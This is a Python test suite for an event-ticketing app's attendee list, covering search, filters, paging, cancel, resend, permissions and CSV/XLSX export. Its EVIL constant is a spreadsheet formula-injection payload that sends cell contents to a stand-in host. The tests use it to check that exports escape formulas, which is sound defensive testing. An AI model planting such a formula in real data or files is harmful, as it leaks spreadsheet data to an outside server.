"""The organizer's attendee list: search, filters, paging, cancel, resend and CSV/XLSX export (messages to attendees
are the cockpit's: tests/cockpit/messages)."""

import csv
import io
import re

import pytest
from flask_babel import force_locale, gettext
from openpyxl import load_workbook
from sqlalchemy import select

from core.db import Page, utcnow
from core.extensions import db
from core.models import AuditLog
from events import services
from tests.factories import login, make_event, make_ticket_type, make_user, submit
from tests.ticketing.booking_helpers import book, event_on_sale, outbox, person
from ticketing.booking import bookings as booking

EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'


@pytest.fixture
def admin_client(client, app_ctx):
    make_user()
    login(client)
    return client


def url(event, suffix=""):
    return f"/manage/events/{event.id}/attendees{suffix}"


def confirmed(event, attendees):
    result = book(event, attendees)
    booking.confirm_booking(result, now=utcnow())
    db.session.commit()
    return result


def act(client, event, ticket, action, **kwargs):
    return submit(client, url(event, f"/{ticket.id}/{action}"), {}, form_url=url(event), **kwargs)


def in_english(client):
    client.get("/language/en")


def names(html: str) -> list[str]:
    return re.findall(r'<th scope="row">([^<]*)</th>', html)


def count_shown(html: str, state: str) -> int:
    return int(re.search(rf'id="count-{state}">(\d+)<', html).group(1))


def audit_actions() -> list[str]:
    return list(db.session.scalars(select(AuditLog.action).order_by(AuditLog.id)))


def three_people(event, tag1, tag2):
    """Anna (Tag 1, valid), Ben (Tag 2, held: not confirmed yet), Clara (Tag 2, valid)."""
    confirmed(event, [person(tag1, 1, name="Anna Becker", organization="Stadtwerke Stralsund")])
    book(event, [person(tag2, 2, name="Ben Adler", email="ben@uni-wismar.de", organization="Hochschule Wismar")])
    confirmed(event, [person(tag2, 3, name="Clara Jung", organization="Landkreis Rostock")])


@pytest.fixture
def two_types(app_ctx):
    event, tag1 = event_on_sale(seats=20)
    tag2 = make_ticket_type(event, tag1.quotas, "Tag 2")
    return event, tag1, tag2


def test_list_shows_only_this_events_tickets_with_counts_per_state(admin_client, two_types):
    event, tag1, tag2 = two_types
    three_people(event, tag1, tag2)
    other, other_type = event_on_sale(slug="andere")
    book(other, [person(other_type, 9, name="Fremde Person")])

    response = admin_client.get(url(event))

    assert response.status_code == 200
    assert names(response.text) == ["Anna Becker", "Ben Adler", "Clara Jung"]
    assert [count_shown(response.text, s) for s in ("valid", "held", "cancelled")] == [2, 1, 0]
    assert "ben@uni-wismar.de" in response.text and "Hochschule Wismar" in response.text
    assert f'href="/manage/events/{event.id}/attendees"' in admin_client.get(f"/manage/events/{event.id}").text


@pytest.mark.parametrize(
    ("q", "expected"),
    [
        ("BECKER", ["Anna Becker"]),
        ("Uni-Wismar.DE", ["Ben Adler"]),
        ("rostock", ["Clara Jung"]),
        ("  jung ", ["Clara Jung"]),
        ("%", []),
        ("", ["Anna Becker", "Ben Adler", "Clara Jung"]),
    ],
)
def test_search_looks_in_name_email_and_organization_ignoring_case(admin_client, two_types, q, expected):
    event, tag1, tag2 = two_types
    three_people(event, tag1, tag2)

    response = admin_client.get(url(event), query_string={"q": q})

    assert names(response.text) == expected


@pytest.mark.parametrize("q", ["özdemir", "ÖZDEMIR", "Jürgen", "JÜRGEN"])
def test_search_ignores_the_case_of_umlauts_too(admin_client, q):
    event, tag1 = event_on_sale()
    book(event, [person(tag1, 1, name="Jürgen Özdemir"), person(tag1, 2, name="Anna Becker")])

    response = admin_client.get(url(event), query_string={"q": q})

    assert names(response.text) == ["Jürgen Özdemir"]


def test_filters_by_ticket_type_and_state(admin_client, two_types):
    event, tag1, tag2 = two_types
    three_people(event, tag1, tag2)

    by_type = admin_client.get(url(event), query_string={"ticket_type": tag2.id})
    by_state = admin_client.get(url(event), query_string={"state": "valid"})
    both = admin_client.get(url(event), query_string={"ticket_type": tag2.id, "state": "valid"})

    assert names(by_type.text) == ["Ben Adler", "Clara Jung"]
    assert names(by_state.text) == ["Anna Becker", "Clara Jung"]
    assert names(both.text) == ["Clara Jung"]


def test_invalid_filter_values_are_ignored_not_a_server_error(admin_client, two_types):
    event, tag1, tag2 = two_types
    three_people(event, tag1, tag2)
    other, other_type = event_on_sale(slug="andere")

    query = {"state": "bogus", "ticket_type": other_type.id, "sort": "evil", "page": "x", "q": "x" * 201}
    response = admin_client.get(url(event), query_string=query)

    assert response.status_code == 200
    assert names(response.text) == ["Anna Becker", "Ben Adler", "Clara Jung"]


def test_sorts_by_name_or_by_booking_time(admin_client):
    event, tag1 = event_on_sale()
    book(event, [person(tag1, 1, name="Zora Zimmer")])
    book(event, [person(tag1, 2, name="anton Ahrens")])

    by_name = admin_client.get(url(event), query_string={"sort": "name"})
    by_time = admin_client.get(url(event), query_string={"sort": "created"})

    assert names(by_name.text) == ["anton Ahrens", "Zora Zimmer"]
    assert names(by_time.text) == ["Zora Zimmer", "anton Ahrens"]
    assert re.search(r'<th scope="col" aria-sort="ascending">\s*<a href="[^"]*sort=created', by_time.text)


def test_list_pages_fifty_tickets_at_a_time(admin_client):
    event, tag1 = event_on_sale(seats=60)
    for first in range(1, 61, 5):
        book(event, [person(tag1, n, name=f"Person {n:02d}") for n in range(first, first + 5)])

    page1 = admin_client.get(url(event))
    page2 = admin_client.get(url(event), query_string={"page": 2, "q": "person"})
    beyond = admin_client.get(url(event), query_string={"page": 99})

    assert names(page1.text) == [f"Person {n:02d}" for n in range(1, 51)]
    assert names(page2.text) == [f"Person {n}" for n in range(51, 61)]
    assert names(beyond.text) == names(page2.text)
    assert page2.text.count('aria-current="page"') == 1
    assert re.search(r'href="[^"]*page=2[^"]*" aria-current="page"', page2.text)
    assert re.search(r'href="[^"]*page=1[^"]*q=person[^"]*" rel="prev"', page2.text)
    assert 'rel="next"' not in page2.text


@pytest.mark.parametrize(
    ("number", "total", "expected"),
    [(1, 60, [1, 2]), (5, 500, [1, 2, 3, 4, 5, 6, 7, None, 10]), (10, 500, [1, None, 8, 9, 10]), (1, 0, [1])],
)
def test_page_links_the_first_the_last_and_the_neighbours(number, total, expected):
    assert Page(items=[], number=number, total=total).numbers() == expected


def test_checkin_helper_is_refused_and_anonymous_goes_to_login(client, app_ctx):
    event, tag1 = event_on_sale()
    ticket = book(event, [person(tag1)]).tickets[0]

    anonymous = client.get(url(event))
    anonymous_cancel = submit(client, url(event, f"/{ticket.id}/cancel"), {}, form_url="/login")
    make_user("helfer@example.org", roles=("checkin",))
    login(client, "helfer@example.org")
    pages = [client.get(url(event, suffix)) for suffix in ("", "/export.csv", "/export.xlsx")]
    cancel = submit(client, url(event, f"/{ticket.id}/cancel"), {}, form_url="/manage/")

    assert anonymous.status_code == 302 and anonymous.headers["Location"].startswith("/login")
    assert anonymous_cancel.status_code == 302 and anonymous_cancel.headers["Location"].startswith("/login")
    assert [p.status_code for p in pages] == [403, 403, 403]
    assert cancel.status_code == 403
    assert ticket.state == "held"


def test_ticket_of_another_event_is_not_found(admin_client):
    event, _tag1 = event_on_sale()
    other, other_type = event_on_sale(slug="andere")
    foreign = confirmed(other, [person(other_type)]).tickets[0]

    responses = [act(admin_client, event, foreign, action) for action in ("cancel", "resend")]

    assert [r.status_code for r in responses] == [404, 404]
    assert foreign.state == "valid"
    assert len(outbox(f"ticket:{foreign.id}")) == 1


def test_cancel_returns_the_seat_and_is_audited(admin_client):
    event, tag1 = event_on_sale(seats=10)
    ticket = confirmed(event, [person(tag1)]).tickets[0]
    hall = tag1.quotas[0]
    assert hall.seats_left == 9

    response = act(admin_client, event, ticket, "cancel")

    assert response.status_code == 302 and response.headers["Location"] == url(event)
    assert ticket.state == "cancelled"
    assert hall.seats_left == 10
    assert audit_actions()[-1] == "ticket.cancel"


def test_cancelling_twice_says_so_and_returns_no_second_seat(admin_client):
    event, tag1 = event_on_sale(seats=10)
    first, second = confirmed(event, [person(tag1, 1), person(tag1, 2)]).tickets
    hall = tag1.quotas[0]
    in_english(admin_client)

    act(admin_client, event, first, "cancel")
    again = act(admin_client, event, first, "cancel", follow_redirects=True)

    assert again.status_code == 200
    assert "This ticket is already cancelled." in again.text
    assert hall.seats_left == 9
    assert second.state == "valid"
    assert audit_actions().count("ticket.cancel") == 1


def test_cancel_keeps_the_search_and_page_it_came_from(admin_client):
    event, tag1 = event_on_sale()
    ticket = book(event, [person(tag1, name="Anna Becker")]).tickets[0]
    list_url = url(event) + "?q=anna&page=1"

    response = submit(admin_client, url(event, f"/{ticket.id}/cancel"), {"next": list_url}, form_url=list_url)

    assert response.headers["Location"] == list_url


def test_the_lists_cancel_buttons_carry_the_page_to_return_to(admin_client):
    event, tag1 = event_on_sale()
    book(event, [person(tag1, name="Anna Becker")])

    page = admin_client.get(url(event) + "?q=anna").text

    assert f'name="next" type="hidden" value="{url(event)}?q=anna"' in page


def test_resend_queues_the_ticket_mail_again(admin_client):
    event, tag1 = event_on_sale()
    ticket = confirmed(event, [person(tag1, email="anna@example.org")]).tickets[0]

    response = act(admin_client, event, ticket, "resend")

    mails = outbox(f"ticket:{ticket.id}")
    assert response.status_code == 302
    assert [m.to_address for m in mails] == ["anna@example.org", "anna@example.org"]
    assert audit_actions()[-1] == "ticket.resend"


def test_resend_refuses_a_ticket_that_is_not_valid(admin_client):
    event, tag1 = event_on_sale()
    held = book(event, [person(tag1)]).tickets[0]
    in_english(admin_client)

    response = act(admin_client, event, held, "resend", follow_redirects=True)

    assert "Only valid tickets with a working email address can be sent again." in response.text
    assert outbox("ticket:") == []
    assert "ticket.resend" not in audit_actions()


@pytest.fixture
def exportable(app_ctx):
    """Two tickets with answers, one organization a formula; a held third ticket and another event's ticket."""
    event, tag1 = event_on_sale(seats=20)
    food = services.save_question(event, label="Ernährung", kind="choice", choices_text="vegan\nalles")
    photo = services.save_question(event, label="Fotos ok?", kind="yesno")
    db.session.commit()
    attendees = [
        person(tag1, 1, name="Anna Becker", organization=EVIL, answers={str(food.id): "vegan"}),
        person(tag1, 2, name="Ben Adler", answers={str(photo.id): "yes"}),
    ]
    result = confirmed(event, attendees)
    book(event, [person(tag1, 3, name="Clara Jung")])
    other, other_type = event_on_sale(slug="andere")
    book(other, [person(other_type, 9, name="Fremde Person")])
    return event, result


def german(msgid: str) -> str:
    """The German catalog's text, whether or not it is translated yet."""
    with force_locale("de"):
        return gettext(msgid)


def export_filename(event, fmt):
    return f'attachment; filename="noerd-teilnehmende-{utcnow().astimezone(event.tz).date().isoformat()}.{fmt}"'


def test_csv_export_for_german_excel_with_answers_and_escaped_formulas(admin_client, exportable):
    event, result = exportable

    response = admin_client.get(url(event, "/export.csv"), query_string={"state": "valid"})

    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == export_filename(event, "csv")
    assert response.data.startswith(b"\xef\xbb\xbf") and b"\r\n" in response.data
    header, *rows = csv.reader(io.StringIO(response.data[3:].decode("utf-8"), newline=""), delimiter=";")
    assert header[:2] == ["Name", "E-Mail"] and header[4:6] == ["Ticketart", "Status"]
    assert header[-2:] == ["Ernährung", "Fotos ok?"]
    assert [row[0] for row in rows] == ["Anna Becker", "Ben Adler"]
    anna, ben = rows
    assert anna[2] == "'" + EVIL
    assert (anna[4], anna[6], anna[-2:]) == ("Tag 1", str(result.id), ["vegan", ""])
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", anna[7])
    assert ben[-2:] == ["", german("Yes")]


def test_xlsx_export_reads_back_with_header_and_rows(admin_client, exportable):
    event, result = exportable

    response = admin_client.get(url(event, "/export.xlsx"), query_string={"q": "becker"})

    assert response.headers["Content-Disposition"] == export_filename(event, "xlsx")
    sheet = load_workbook(io.BytesIO(response.data)).active
    header, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert header[:2] == ["Name", "E-Mail"] and header[-2:] == ["Ernährung", "Fotos ok?"]
    assert len(rows) == 1
    assert rows[0][:3] == ["Anna Becker", "person1@example.org", EVIL]
    assert rows[0][6] == result.id
    assert sheet["C2"].data_type == "s"
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b


def test_nul_bytes_in_search_are_refused_not_a_server_error(admin_client):
    event, tag1 = event_on_sale()
    confirmed(event, [person(tag1, name="Anna Becker")])

    search = admin_client.get(url(event), query_string={"q": "an\x00na"})

    assert search.status_code == 400
    assert "Ungültige Anfrage" in search.text


def test_search_ignores_case_of_umlauts_on_every_database(admin_client):
    event, tag1 = event_on_sale()
    confirmed(event, [person(tag1, name="Ömer Özdemir"), person(tag1, 2, name="Anna Becker")])

    assert names(admin_client.get(url(event), query_string={"q": "özdemir"}).text) == ["Ömer Özdemir"]


def test_unknown_event_or_ticket_is_not_found_even_beyond_the_integer_range(admin_client):
    event = make_event()
    huge = 2**40

    responses = [
        admin_client.get(f"/manage/events/{event.id + 1}/attendees"),
        admin_client.get(f"/manage/events/{huge}/attendees"),
        submit(admin_client, url(event, f"/{huge}/cancel"), {}, form_url=url(event)),
    ]

    assert [r.status_code for r in responses] == [404, 404, 404]
